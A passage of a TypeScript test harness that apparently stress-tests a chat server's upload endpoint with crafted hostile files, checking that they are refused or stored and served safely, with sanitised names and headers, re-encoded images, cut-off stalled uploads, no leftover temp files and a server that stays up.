  if (names.length !== 1 || stars.length > 1 || others.length > 0) out.push(`Content-Disposition parameters ${JSON.stringify(params.map(([k]) => k))}: a name broke out of its quotes`);
  const star = stars[0]?.[1];
  if (route === 'content' && star !== undefined) {
    let decoded: string | undefined;
    try {
      decoded = decodeURIComponent(star.replace(/^UTF-8''/i, ''));
    } catch {
      decoded = undefined;
    }
    if (decoded !== file.name) out.push(`filename* ${JSON.stringify(star.slice(0, 60))} is not the stored name`);
  }
  return out;
}

function nameProblems(name: unknown): string[] {
  if (typeof name !== 'string') return [`name is ${typeof name}`];
  const out: string[] = [];
  if (/[/\\]/.test(name)) out.push('holds / or \\');
  if (/[\p{Cc}]/u.test(name)) out.push('holds a control character');
  if (BIDI.test(name)) out.push('holds a bidi control');
  if (/[\u2028\u2029]/.test(name)) out.push('holds a line separator');
  if ([...name].length > limits.maxFileNameChars) out.push(`${[...name].length} code points`);
  if (name === '' || name === '.' || name === '..') out.push('is empty or a path segment');
  return out.map((p) => `stored name ${JSON.stringify(name.slice(0, 60))} ${p}`);
}

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

// ---- the run ----------------------------------------------------------------------------------------

type Failure = 'outcome' | 'refusal' | 'server error' | 'name' | 'send' | 'download' | 'headers' | 'content' | 'image' | 'thumb' | 'partial file';
const FAILURES: Failure[] = ['outcome', 'refusal', 'server error', 'name', 'send', 'download', 'headers', 'content', 'image', 'thumb', 'partial file'];

/** G10: hostile files are refused or stored and served inert; nothing is left behind, the process stays up. */
export async function g10HostileFiles(opts: G10Options) {
  const server = new ServerProcess({ extraArgs: ['--upload-idle-ms', String(opts.idleMs)] });
  await server.start();
  const sessions: ProbeClient[] = [];
  const failures = Object.fromEntries(FAILURES.map((k) => [k, 0])) as Record<Failure, number>;
  const details: string[] = [];
  const fail = (what: Failure, entry: string, message: string) => {
    failures[what]++;
    details.push(`[${what}] ${entry}: ${message}`);
  };
  const refusedBy = new Map<string, number>();
  const counts = { tried: 0, stored: 0, servedSafely: 0, inline: 0, attachments: 0, thumbs: 0, cut: 0, downloads: 0, messages: 0 };
  const cutMs: number[] = [];
  /** Each entry's outcome, one line each (not printed; for whoever investigates a failure). */
  const outcomes: string[] = [];
  const tmpDir = join(server.dir, 'files', 'tmp');
  const tmpFiles = () => {
    try {
      return readdirSync(tmpDir);
    } catch {
      return [];
    }
  };
  const tmpEmpty = async (ms: number) => {
    const end = Date.now() + ms;
    while (tmpFiles().length > 0 && Date.now() < end) await sleep(25);
    return tmpFiles();
  };
  try {
    const fixtures = await makeFixtures(opts);
    const { list } = await openConversations(server, 1, ['g10-m1']);
    const conv = list[0]!;
    const staffToken = userToken(conv.manager);
    const clients: Record<Who, ProbeClient> = {
      visitor: await connected(probe(server, conv.visitorToken, { autoReconnect: false })),
      staff: await connected(probe(server, staffToken, { autoReconnect: false })),
    };
    sessions.push(clients.visitor, clients.staff);
    const ctx: Ctx = {
      server,
      tokens: { visitor: (await clients.visitor.call('files.token', {})).token, staff: (await clients.staff.call('files.token', {})).token },
      sessionTokens: { visitor: conv.visitorToken, staff: staffToken },
      idleMs: opts.idleMs,
    };
    const other = (w: Who): Who => (w === 'visitor' ? 'staff' : 'visitor');

    // Warm up the image path (libvips loads once) before memory is first measured.
    const warm = await upload('staff', fixtures.noisyPng, 'warm.png', 'image/png')(ctx);
    if (warm.kind !== 'answer' || warm.answer.status !== 201) throw new Error(`G10: the warm-up upload failed: ${JSON.stringify(warm).slice(0, 300)}`);
    await clients.staff.call('messages.send', { conversationId: conv.id, clientMessageId: cmid('g10w'), attachmentIds: [JSON.parse(warm.answer.body.toString()).file.id] });
    const rssBefore = server.rss();
    let rssPeak = rssBefore;

    /** Downloads of one sent file by the other party (`?t=`) and the uploader (the header, and a range). */
    const served = async (entry: Entry, f: StoredFile) => {
      let ok = true;
      const problem = (what: Failure, message: string) => {
        ok = false;
        fail(what, entry.name, message);
      };
      let first: Buffer | undefined;
      const reads: Array<[string, Record<string, string>, string]> = [
        [`the ${other(entry.by)}`, {}, `?t=${encodeURIComponent(ctx.tokens[other(entry.by)])}`],
        ['the uploader', bearer(ctx.tokens[entry.by]), ''],
      ];
      for (const [who, headers, query] of reads) {
        const o = await get(ctx, `/api/files/${f.id}${query}`, headers);
        counts.downloads++;
        if (o.kind !== 'answer' || o.answer.status !== 200) {
          problem(o.kind === 'answer' && o.answer.status >= 500 ? 'server error' : 'download', `download by ${who}: ${o.kind === 'answer' ? `${o.answer.status} ${o.answer.body.toString().slice(0, 200)}` : `${o.kind} ${'error' in o ? o.error : ''}`}`);
          continue;
        }
        const { headers: h, body } = o.answer;
        for (const p of headerProblems(h, f, 'content')) problem('headers', `download by ${who}: ${p}`);
        if (body.length !== f.size || Number(h['content-length']) !== f.size) problem('content', `download by ${who}: ${body.length} bytes, Content-Length ${h['content-length']}, attachment size ${f.size}`);
        if (first && !first.equals(body)) problem('content', `the two downloads differ`);
        first ??= body;
      }
      if (first) {
        if (f.kind === 'image') {
          if (!SAFE_INLINE.has(f.mime)) problem('image', `kind image with mime ${f.mime}`);
          try {
            const meta = await sharp(first, { animated: true }).metadata();
            if (meta.exif) problem('image', `served image keeps EXIF (${meta.exif.length} bytes)`);
            if (meta.orientation !== undefined && meta.orientation !== 1) problem('image', `served image keeps orientation ${meta.orientation}`);
            if (`image/${meta.format}` !== f.mime) problem('image', `served image decodes as ${meta.format}, attachment says ${f.mime}`);
            await sharp(first, { animated: true }).raw().toBuffer();
          } catch (e) {
            problem('image', `served image not decodable: ${(e as Error).message}`);
          }
        } else if (entry.bytes && !first.equals(entry.bytes)) {
          problem('content', `served bytes (${first.length}, ${sha(first).slice(0, 12)}) are not the upload (${entry.bytes.length}, ${sha(entry.bytes).slice(0, 12)})`);
        }
        if (entry.notServed && f.kind === 'image' && first.includes(entry.notServed)) problem('image', `served image still holds ${JSON.stringify(entry.notServed.toString('latin1'))}`);
      }
      if (f.size > 0) {
        const o = await get(ctx, `/api/files/${f.id}`, { ...bearer(ctx.tokens[entry.by]), range: 'bytes=0-0' });
        if (o.kind !== 'answer' || o.answer.status !== 206 || o.answer.body.length !== 1) problem('download', `range bytes=0-0: ${o.kind === 'answer' ? `${o.answer.status}, ${o.answer.body.length} bytes` : o.kind}`);
        else for (const p of headerProblems(o.answer.headers, f, 'content')) problem('headers', `ranged download: ${p}`);
      }
      const t = await get(ctx, `/api/files/${f.id}/thumb?t=${encodeURIComponent(ctx.tokens[other(entry.by)])}`);
      if (t.kind !== 'answer') problem('thumb', `thumbnail: ${t.kind}`);
      else if (f.kind === 'image') {
        if (t.answer.status !== 200) problem('thumb', `thumbnail of an image: ${t.answer.status}`);
        else {
          counts.thumbs++;
          for (const p of headerProblems(t.answer.headers, f, 'thumb')) problem('headers', `thumbnail: ${p}`);
          try {
            const m = await sharp(t.answer.body).metadata();
            if (m.format !== 'webp' || m.exif) problem('thumb', `thumbnail is ${m.format}${m.exif ? ' with EXIF' : ''}`);
            if (f.thumb && (m.width !== f.thumb.width || m.height !== f.thumb.height)) problem('thumb', `thumbnail ${m.width}×${m.height}, attachment says ${f.thumb.width}×${f.thumb.height}`);
          } catch (e) {
            problem('thumb', `thumbnail not decodable: ${(e as Error).message}`);
          }
        }
      } else if (t.answer.status !== 404 || refusalProblem(t.answer)) problem('thumb', `thumbnail of a ${f.kind}: ${t.answer.status} ${t.answer.body.toString().slice(0, 120)}`);
      if (ok) {
        counts.servedSafely++;
        if (f.kind === 'image' && SAFE_INLINE.has(f.mime)) counts.inline++;
        else counts.attachments++;
      }
    };

    /** Uploads not yet sent, per uploader; sent (≤ 10 files, ≤ 20 MiB together) before the next would not fit. */
    const pending: Record<Who, Array<{ entry: Entry; file: StoredFile }>> = { visitor: [], staff: [] };
    const flush = async (by: Who) => {
      const batch = pending[by].splice(0);
      if (batch.length === 0) return;
      try {
        await clients[by].call('messages.send', { ...(by === 'staff' ? { conversationId: conv.id } : {}), clientMessageId: cmid('g10'), attachmentIds: batch.map((b) => b.file.id) });
        counts.messages++;
      } catch (e) {
        for (const b of batch) fail('send', b.entry.name, `messages.send refused: ${(e as { code?: string }).code} ${(e as Error).message}`);
        return;
      }
      for (const b of batch) await served(b.entry, b.file);
    };

    const entries = catalogue(fixtures, opts);
    for (let round = 0; round < opts.rounds; round++) {
      for (const entry of entries) {
        counts.tried++;
        const o = await entry.send(ctx);
        if (o.kind === 'hung' && entry.expect === 'cut') fail('outcome', entry.name, `not cut off: still open ${fmt(o.ms)} ms after it stalled (--upload-idle-ms ${fmt(opts.idleMs)})`);
        else if (o.kind === 'hung') fail('server error', entry.name, `no answer within ${fmt(o.ms)} ms`);
        else if (o.kind === 'cut') {
          if (entry.expect !== 'cut') fail('outcome', entry.name, `connection cut (${o.error}) after ${o.ms} ms; want ${entry.expect}`);
          else {
            counts.cut++;
            if (entry.name.includes('stall')) {
              cutMs.push(o.ms);
              if (o.ms < opts.idleMs * 0.8) fail('outcome', entry.name, `cut after ${o.ms} ms, before the ${opts.idleMs} ms idle limit`);
            }
          }
        } else {
          const a = o.answer;
          if (a.status === 201) {
            let file: StoredFile | undefined;
            try {
              file = JSON.parse(a.body.toString()).file as StoredFile;
            } catch {
              file = undefined;
            }
            if (!file || typeof file.id !== 'number' || typeof file.size !== 'number' || typeof file.mime !== 'string') {
              fail('server error', entry.name, `201 without {file}: ${a.body.toString().slice(0, 200)}`);
            } else {
              counts.stored++;
              if (entry.expect === 'refused' || entry.expect === 'cut') fail('outcome', entry.name, `stored (${file.kind} ${file.mime}, ${file.size} bytes); want ${entry.expect}`);
              if (entry.kind && file.kind !== entry.kind) fail('outcome', entry.name, `stored as kind ${file.kind} (${file.mime}); want ${entry.kind}`);
              if (entry.bytes && file.kind !== 'image' && file.size !== entry.bytes.length) fail('content', entry.name, `stored ${file.size} bytes of ${entry.bytes.length}`);
              for (const p of nameProblems(file.name)) fail('name', entry.name, p);
              const extra = entry.checkFile?.(file);
              if (extra) fail('name', entry.name, extra);
              const mine = pending[entry.by];
              const bytes = mine.reduce((n, b) => n + b.file.size, 0);
              if (mine.length === limits.maxAttachments || bytes + file.size > limits.maxSendBytes) await flush(entry.by);
              mine.push({ entry, file });
            }
          } else if (a.status >= 400 && a.status < 500) {
            const bad = refusalProblem(a);
            const code = bad ? undefined : (JSON.parse(a.body.toString()).error.code as string);
            if (bad) fail('refusal', entry.name, `${a.status}: ${bad}`);
            else refusedBy.set(`${a.status} ${code}`, (refusedBy.get(`${a.status} ${code}`) ?? 0) + 1);
            if (entry.expect === 'stored') fail('outcome', entry.name, `refused ${a.status} ${a.body.toString().slice(0, 200)}; want stored`);
            else if (entry.code && code !== entry.code) fail('outcome', entry.name, `refused with ${a.status} ${code}; want ${entry.code}`);
          } else fail('server error', entry.name, `${a.status} ${a.body.toString().slice(0, 200)}`);
        }
        outcomes.push(`${entry.name}: ${describe(o)}`);
        const left = await tmpEmpty(2_000);
        if (left.length > 0) fail('partial file', entry.name, `${left.length} file(s) left in the upload temp folder: ${left.join(', ')}`);
        rssPeak = Math.max(rssPeak, server.rss());
        if (!server.alive) {
          fail('server error', entry.name, 'the server process died');
          break;
        }
      }
      if (!server.alive) break;
      await flush('visitor');
      await flush('staff');
    }

    const tmpLeft = (await tmpEmpty(2_000)).length;
    const health = await fetch(`${server.url}/health`).then((r) => r.status, () => 0);
    const rssAfter = server.rss();
    rssPeak = Math.max(rssPeak, rssAfter);
    const failed = Object.values(failures).reduce((n, x) => n + x, 0);
    const refused = [...refusedBy.values()].reduce((n, x) => n + x, 0);
    const byCategory = (c: Category) => entries.filter((e) => e.category === c).length;
    return {
      entries: entries.length,
      tried: counts.tried,
      stored: counts.stored,
      servedSafely: counts.servedSafely,
      refused,
      cut: counts.cut,
      failures,
      details,
      outcomes,
      tmpLeft,
      alive: server.alive,
      health,
      rssGrowthMb: (rssAfter - rssBefore) / 1024 / 1024,
      rssPeakGrowthMb: (rssPeak - rssBefore) / 1024 / 1024,
      line:
        `G10 hostile files: ${entries.length} crafted uploads (${byCategory('file')} files, ${byCategory('name')} names, ${byCategory('request')} broken requests)${opts.rounds > 1 ? ` × ${opts.rounds} rounds` : ''}, bomb ${fmt(opts.bombSide)}² in ${fmt(fixtures.bomb.length)} bytes: ` +
        `${fmt(counts.stored)} stored, ${fmt(counts.servedSafely)} of them served safely after ${counts.messages} sends (${counts.inline} inline images re-encoded, ${counts.attachments} attachments, ${counts.thumbs} thumbnails; ${fmt(counts.downloads)} downloads by the other party and the uploader); ` +
        `${refused} refused (${[...refusedBy.entries()].sort((x, y) => y[1] - x[1]).map(([k, n]) => `${k} ×${n}`).join(', ')}); ${counts.cut} cut off (stalls after ${cutMs.map((m) => `${fmt(m)}`).join('/')} ms at --upload-idle-ms ${fmt(opts.idleMs)}, an abort); ` +
        `${failed} failures${failed ? ` (${FAILURES.filter((k) => failures[k]).map((k) => `${k} ${failures[k]}`).join(', ')})` : ''}; temp folder ${tmpLeft ? `holds ${tmpLeft} files` : 'empty'}; process ${server.alive ? 'up' : 'DOWN'}, /health ${health}, RSS ${((rssAfter - rssBefore) / 1024 / 1024).toFixed(0)} MB from start (peak ${((rssPeak - rssBefore) / 1024 / 1024).toFixed(0)} MB)`,
    };
  } finally {
    for (const s of sessions) s.stop();
    await server.stop();
  }
}

function describe(o: Outcome): string {
  if (o.kind !== 'answer') return `${o.kind}${o.kind === 'cut' ? ` (${o.error})` : ''} after ${o.ms} ms`;
  const body = o.answer.body.toString();
  try {
    const j = JSON.parse(body);
    if (j.file) return `${o.answer.status} ${j.file.kind} ${j.file.mime} ${j.file.size} bytes, named ${JSON.stringify(j.file.name).slice(0, 80)}`;
    if (j.error) return `${o.answer.status} ${j.error.code}: ${String(j.error.message).slice(0, 100)}`;
  } catch {
    // Not JSON: shown as it came.
  }
  return `${o.answer.status} ${body.slice(0, 100)}`;
}

/** Why an HTTP refusal is not `{error: {code, message}}` in a protocol code; undefined when it is. */
function refusalProblem(a: Answer): string | undefined {
  let body: any;
  try {
    body = JSON.parse(a.body.toString());
  } catch {
    return `not JSON (${String(a.headers['content-type'])}): ${JSON.stringify(a.body.toString().slice(0, 120))}`;
  }
  const e = body?.error;
  if (!e || typeof e.code !== 'string' || typeof e.message !== 'string') return `not {error:{code,message}}: ${a.body.toString().slice(0, 160)}`;
  if (!Object.hasOwn(errorCodes, e.code)) return `code ${e.code} is not a protocol code`;
  return undefined;
}
